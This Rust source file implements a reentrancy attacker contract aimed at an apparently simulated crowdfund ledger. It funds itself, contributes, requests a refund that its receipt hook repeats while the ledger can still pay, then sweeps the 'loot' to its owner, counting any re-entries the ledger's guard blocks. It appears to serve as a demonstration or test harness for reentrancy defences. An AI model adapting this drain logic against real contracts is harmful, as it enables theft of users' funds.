//! # Reentrant Attacker
//!
//! Four-step protocol, each step owner-only:
//!
//! 1. `fund_attacker` - controller attaches value to the contract
//! 2. `contribute_from_contract` - contract contributes from its own balance
//! 3. `run_attack` - contract asks for its refund; the receipt hook asks again
//!    while the ledger can still pay
//! 4. `withdraw_loot` - contract sends everything it holds to the controller

use super::account::ContractAccount;
use crate::config::AttackConfig;
use crate::domain::protocol::ReentrancyProtocol;
use crate::errors::AttackError;
use crate::ports::AttackerContract;
use cf_01_ledger::domain::entities::CrowdfundInfo;
use cf_01_ledger::domain::value_objects::{Identity, U256};
use cf_01_ledger::errors::{LedgerError, ReceiveError};
use cf_01_ledger::ports::inbound::CrowdfundApi;
use cf_01_ledger::ports::outbound::{SharedChain, ValueReceiver};
use parking_lot::Mutex;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Weak};
use tracing::{debug, info, instrument, warn};

/// Contract whose receipt hook re-enters `request_refund`.
pub struct ReentrantAttacker {
    account: ContractAccount,
    config: AttackConfig,
    protocol: Mutex<ReentrancyProtocol>,
    /// Set only while `run_attack` is in progress.
    attacking: AtomicBool,
    depth: AtomicUsize,
    reentries: AtomicUsize,
    blocked_reentries: AtomicUsize,
}

impl ReentrantAttacker {
    /// Deploys an attacker controlled by `owner` and aimed at `target`.
    pub fn deploy(
        chain: SharedChain,
        owner: Identity,
        target: &Arc<dyn CrowdfundApi>,
        config: AttackConfig,
    ) -> Arc<Self> {
        let attacker = Arc::new(Self {
            account: ContractAccount::deploy(chain, owner, target),
            config,
            protocol: Mutex::new(ReentrancyProtocol::new()),
            attacking: AtomicBool::new(false),
            depth: AtomicUsize::new(0),
            reentries: AtomicUsize::new(0),
            blocked_reentries: AtomicUsize::new(0),
        });
        attacker
            .account
            .install(Arc::downgrade(&attacker) as Weak<dyn ValueReceiver>);
        info!(
            contract = %attacker.account.identity,
            %owner,
            target = %target.identity(),
            "Deployed reentrant attacker"
        );
        attacker
    }

    /// Step 1: the controller attaches `amount` to the contract.
    pub fn fund_attacker(&self, caller: Identity, amount: U256) -> Result<(), AttackError> {
        self.account.accept_from_owner(caller, amount)
    }

    /// Step 2: contributes `amount` from the contract's own balance.
    ///
    /// Returns the amount the ledger recorded, which becomes the only
    /// amount `run_attack` accepts.
    #[instrument(skip(self), fields(contract = %self.account.identity))]
    pub fn contribute_from_contract(&self, caller: Identity, amount: U256) -> Result<U256, AttackError> {
        self.account.only_owner(caller)?;
        self.account.require_held(amount)?;
        let ledger = self.account.ledger()?;

        let recorded = ledger.contribute(self.account.identity, amount)?;
        self.protocol.lock().record_contribution(recorded);
        debug!(%recorded, "Attacker contributed");
        Ok(recorded)
    }

    /// Steps 1 and 2 in one call.
    pub fn deposit_to_crowdfund(&self, caller: Identity, amount: U256) -> Result<U256, AttackError> {
        self.fund_attacker(caller, amount)?;
        self.contribute_from_contract(caller, amount)
    }

    /// Step 3: requests the refund that the hook then repeats.
    ///
    /// Returns the total value the contract received during the attack.
    #[instrument(skip(self), fields(contract = %self.account.identity))]
    pub fn run_attack(&self, caller: Identity, amount: U256) -> Result<U256, AttackError> {
        self.account.only_owner(caller)?;
        self.protocol.lock().authorize_attack(amount)?;
        let ledger = self.account.ledger()?;

        self.reentries.store(0, Ordering::SeqCst);
        self.blocked_reentries.store(0, Ordering::SeqCst);
        let held_before = self.account.held();

        self.attacking.store(true, Ordering::SeqCst);
        let result = ledger.request_refund(self.account.identity);
        self.attacking.store(false, Ordering::SeqCst);
        result?;

        let received = self.account.held().saturating_sub(held_before);
        info!(
            %received,
            reentries = self.reentries(),
            blocked = self.blocked_reentries(),
            "Reentrancy attack finished"
        );
        Ok(received)
    }

    /// Target ledger's `(goal, total_raised, balance)`.
    pub fn crowdfund_info(&self) -> Result<CrowdfundInfo, AttackError> {
        Ok(self.account.ledger()?.info())
    }

    /// Amount cached by the last contribution.
    #[must_use]
    pub fn last_contribution(&self) -> U256 {
        self.protocol.lock().last_contribution()
    }

    /// Nested refunds issued during the last attack.
    #[must_use]
    pub fn reentries(&self) -> usize {
        self.reentries.load(Ordering::SeqCst)
    }

    /// Nested refunds the ledger refused as reentrant during the last attack.
    #[must_use]
    pub fn blocked_reentries(&self) -> usize {
        self.blocked_reentries.load(Ordering::SeqCst)
    }

    /// Keeps the innermost reason when a nested revert bubbles up through
    /// this contract's own receipt.
    fn revert_reason(&self, err: LedgerError) -> String {
        match err {
            LedgerError::TransferRejected { recipient, reason } if recipient == self.account.identity => reason,
            other => other.to_string(),
        }
    }

    fn should_reenter(&self, ledger: &dyn CrowdfundApi, stake: U256) -> bool {
        !stake.is_zero()
            && self.depth.load(Ordering::SeqCst) < self.config.max_reentry_depth
            && ledger.get_balance() >= stake
    }
}

impl ValueReceiver for ReentrantAttacker {
    fn on_value_received(&self, from: Identity, amount: U256) -> Result<(), ReceiveError> {
        if !self.attacking.load(Ordering::SeqCst) || self.account.target_identity() != Some(from) {
            return Ok(());
        }
        let Ok(ledger) = self.account.ledger() else {
            return Ok(());
        };
        let stake = self.protocol.lock().last_contribution();
        if !self.should_reenter(ledger.as_ref(), stake) {
            return Ok(());
        }

        self.depth.fetch_add(1, Ordering::SeqCst);
        self.reentries.fetch_add(1, Ordering::SeqCst);
        let nested = ledger.request_refund(self.account.identity);
        self.depth.fetch_sub(1, Ordering::SeqCst);

        match nested {
            Ok(refunded) => {
                debug!(%amount, %refunded, "Re-entered refund");
                Ok(())
            }
            Err(err) if err.is_reentrant_call() => {
                self.blocked_reentries.fetch_add(1, Ordering::SeqCst);
                debug!("Re-entry blocked by ledger guard");
                Ok(())
            }
            // Any other failure reverts the transfer that invoked this hook.
            Err(err) => {
                warn!(error = %err, "Re-entered refund failed, reverting");
                Err(ReceiveError::new(self.revert_reason(err)))
            }
        }
    }
}

impl AttackerContract for ReentrantAttacker {
    fn identity(&self) -> Identity {
        self.account.identity
    }

    fn owner(&self) -> Identity {
        self.account.owner
    }

    fn held_balance(&self) -> U256 {
        self.account.held()
    }

    /// Step 4. An empty contract sweeps zero.
    #[instrument(skip(self), fields(contract = %self.account.identity))]
    fn withdraw_loot(&self, caller: Identity) -> Result<U256, AttackError> {
        self.account.only_owner(caller)?;
        self.account.sweep_to_owner()
    }
}
